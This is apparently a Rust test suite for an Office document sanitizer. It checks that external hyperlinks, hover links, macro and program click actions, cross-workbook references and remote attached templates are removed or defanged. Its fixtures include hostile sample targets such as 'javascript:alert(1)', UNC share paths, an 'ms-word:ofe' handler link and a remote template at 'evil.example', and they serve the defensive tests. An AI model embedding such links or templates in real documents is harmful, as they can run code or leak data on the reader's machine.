//! Where links, clicks and templates may lead.

use form::Reason;

use crate::kit::{count, rebuilt, slide};
use crate::package_kit::{A, Package, R, W};

#[test]
fn links_lead_to_the_web_and_to_mail_only() {
    let link = |target: &str| {
        let package =
            Package::document(r#"<w:p><w:hyperlink r:id="h"><w:r><w:t>こちら</w:t></w:r></w:hyperlink></w:p>"#)
                .external("word/document.xml", "h", "hyperlink", target);
        rebuilt(&package, "a.docx")
    };
    let (done, parts) = link("https://www.example.jp/?a=1&b=2");
    assert!(parts.text("document.xml").contains("<w:hyperlink") && !done.has(Reason::UnsafeLink));
    for target in
        ["javascript:alert(1)", "file:///C:/a.exe", "\\\\server\\share\\a.lnk", "ms-word:ofe|u|http://x/a.dotm"]
    {
        let (done, parts) = link(target);
        let text = parts.text("document.xml");
        assert!(!text.contains("<w:hyperlink") && text.contains("こちら"), "{target}: {text}");
        assert!(done.has(Reason::UnsafeLink), "{target}");
    }
}

#[test]
fn a_link_inside_a_workbook_stays_in_it() {
    let link = |location: &str| {
        let (done, parts) = rebuilt(
            &Package::workbook(&format!(
                r#"<sheetData/><hyperlinks><hyperlink ref="A1" location="{location}"/></hyperlinks>"#
            )),
            "a.xlsx",
        );
        (done, parts.text("worksheets/"))
    };
    for location in ["Sheet1!A1", "'表 1'!$B$2", "合計"] {
        assert!(link(location).1.contains("location="), "{location}");
    }
    for location in [r"'\\evil\share\[b.xlsx]S'!A1", "file://evil/x#a", "[b.xlsx]S!A1"] {
        let (done, text) = link(location);
        assert!(!text.contains("<hyperlink ") && done.has(Reason::UnsafeLink), "{location}: {text}");
    }
}

#[test]
fn a_shape_of_a_sheet_leads_to_places_in_the_same_workbook() {
    let shape = |number: u32| {
        format!(
            r#"<xdr:absoluteAnchor><xdr:pos x="0" y="0"/><xdr:ext cx="1" cy="1"/><xdr:sp macro="" textlink=""><xdr:nvSpPr><xdr:cNvPr id="{number}" name="b"><a:hlinkClick r:id="h{number}"/></xdr:cNvPr><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr/></xdr:sp><xdr:clientData/></xdr:absoluteAnchor>"#
        )
    };
    let names = format!(r#"xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" {A} {R}"#);
    let shapes: String = (2..6).map(shape).collect();
    let drawing = "xl/drawings/drawing1.xml";
    let package = Package::workbook(r#"<sheetData/><drawing r:id="d1"/>"#)
        .relation("xl/worksheets/sheet1.xml", "d1", "drawing", "../drawings/drawing1.xml")
        .part(drawing, &format!("<xdr:wsDr {names}>{shapes}</xdr:wsDr>"))
        .relation(drawing, "h2", "hyperlink", "#'表'!A1:B2")
        .relation(drawing, "h3", "hyperlink", "#'[b.xlsx]S'!A1")
        .relation(drawing, "h4", "hyperlink", "#'\\\\host\\share\\[b.xls]S'!A1")
        .external(drawing, "h5", "hyperlink", "#R&amp;D");
    let (done, parts) = rebuilt(&package, "a.xlsx");
    let rels = parts.0.iter().find(|(name, _)| name.contains("drawing1.xml.rels")).expect("relationships").1.clone();
    let rels = String::from_utf8(rels).unwrap();
    assert!(
        rels.contains(r##"Target="#'表'!A1:B2"/>"##) || rels.contains(r##"Target="#&apos;表&apos;!A1:B2"/>"##),
        "{rels}"
    );
    assert!(!rels.contains("host") && !rels.contains("b.xlsx") && !rels.contains("External"), "{rels}");
    assert_eq!(parts.text("drawings/drawing").matches("<a:hlinkClick").count(), rels.matches("Target=").count());
    assert!(count(&done, Reason::UnsafeLink) >= 2);
}

#[test]
fn what_acts_without_a_click_leads_nowhere_outside() {
    for (name, is_kept) in [("hlinkClick", true), ("hlinkHover", false)] {
        let shape = format!(
            r#"<p:sp><p:nvSpPr><p:cNvPr id="2" name="s"><a:{name} r:id="h"/></p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/></p:sp>"#
        );
        let (done, text) = slide(&shape, |package| {
            package.external("ppt/slides/slide1.xml", "h", "hyperlink", "https://www.example.jp/")
        });
        assert_eq!(text.contains(name), is_kept, "{text}");
        assert_eq!(done.has(Reason::UnsafeLink), !is_kept, "{name}");
    }
}

#[test]
fn a_click_that_runs_something_is_no_click_any_more() {
    let shape = |click: &str| {
        format!(
            r#"<p:sp><p:nvSpPr><p:cNvPr id="2" name="s">{click}</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/></p:sp>"#
        )
    };
    let (_, next) = slide(&shape(r#"<a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/>"#), |p| p);
    assert!(next.contains("hlinkClick"), "{next}");
    for (action, reason) in [("macro?name=x", Reason::Macros), ("program", Reason::LaunchAction)] {
        let (done, slide) = slide(&shape(&format!(r#"<a:hlinkClick r:id="" action="ppaction://{action}"/>"#)), |p| p);
        assert!(!slide.contains("hlinkClick") && slide.contains("<p:sp>"), "{slide}");
        assert!(done.has(reason), "{action}");
    }
}

#[test]
fn a_template_elsewhere_is_told_with_a_target_that_is_no_link() {
    let settings =
        format!(r#"<w:settings {W} {R}><w:attachedTemplate r:id="t"/><w:defaultTabStop w:val="720"/></w:settings>"#);
    let package = Package::document("<w:p/>")
        .relation("word/document.xml", "s", "settings", "settings.xml")
        .part("word/settings.xml", &settings)
        .external("word/settings.xml", "t", "attachedTemplate", "http://evil.example/a.dotm");
    let (done, parts) = rebuilt(&package, "a.docx");
    assert_eq!(done.place(Reason::ExternalLink).as_deref(), Some("hxxp[:]//evil[.]example/a.dotm"));
    assert!(!parts.has("evil") && !parts.has("attachedTemplate"));
    assert!(parts.text("settings.xml").contains("defaultTabStop"));
}
